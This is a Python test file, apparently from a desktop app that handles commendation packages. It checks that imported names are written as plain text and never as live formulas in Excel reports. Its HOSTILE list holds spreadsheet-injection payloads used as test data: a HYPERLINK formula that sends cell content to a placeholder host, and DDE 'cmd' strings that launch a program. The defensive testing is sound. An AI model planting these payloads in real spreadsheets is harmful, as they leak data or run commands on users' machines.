"""Text from a unit's package never becomes a live formula in the Board's report or in a package's summary."""

from __future__ import annotations

import copy
import uuid
from io import BytesIO

from forge import documents, dumped, forge, unit_key
from openpyxl import load_workbook

from chilinh_desktop.core.clock import FixedClock
from chilinh_desktop.core.store import Store
from chilinh_desktop.demo.build import DEMO_TODAY
from chilinh_desktop.ops.board import write_board_report
from chilinh_desktop.ops.importing import import_packages
from chilinh_desktop.render.excel_summary import SummaryRow, summary_workbook
from chilinh_desktop.render.xlsx_text import TRIGGERS

HOSTILE = ['=HYPERLINK("http://example.invalid/?"&B6,"Xem hồ sơ")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _text_cells(book) -> list:
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
            if isinstance(cell.value, str) and cell.value.startswith(TRIGGERS)]


def test_hostile_commendation_names_stay_text_in_every_sheet_of_the_report(demo_path, exchange, tmp_path):
    unit_doc, _officials = documents(exchange["package"])
    unit = copy.deepcopy(unit_doc)
    unit["ratings"]["commendations"] += [{"name": name, "kind": "to_chuc", "level": "HTXSNV", "achievement": name,
                                          "subject": None} for name in HOSTILE]
    package = forge(exchange["package"], tmp_path / "hostile.zip", unit_key(exchange["unit_db"]),
                    files={"unit.json": dumped(unit)}, info={"Package-Id": str(uuid.uuid4())})
    with Store.open(demo_path, clock=FixedClock(DEMO_TODAY)) as store:
        assert import_packages(store, [package], trust_new=True)[0].status == "imported"
        write_board_report(store, tmp_path / "report.xlsx")
    book = load_workbook(tmp_path / "report.xlsx")
    cells = _text_cells(book)
    assert {cell.value for cell in cells} >= set(HOSTILE)  # read back intact
    assert cells and all(cell.data_type == "s" for cell in cells)
    assert not [c for s in book.worksheets for r in s.iter_rows() for c in r if c.data_type == "f"]


def test_the_packages_summary_writes_data_as_text():
    rows = [SummaryRow(name, name, "02B", "bắt buộc", name) for name in HOSTILE]
    book = load_workbook(BytesIO(summary_workbook("=DB15", "@Đơn vị", "-Đợt 2023", rows)))
    cells = _text_cells(book)
    assert len(cells) == 2 + 3 * len(HOSTILE)
    assert all(cell.data_type == "s" for cell in cells)
    assert {c.value for c in cells} == {*HOSTILE, "@Đơn vị (=DB15)", "-Đợt 2023"}
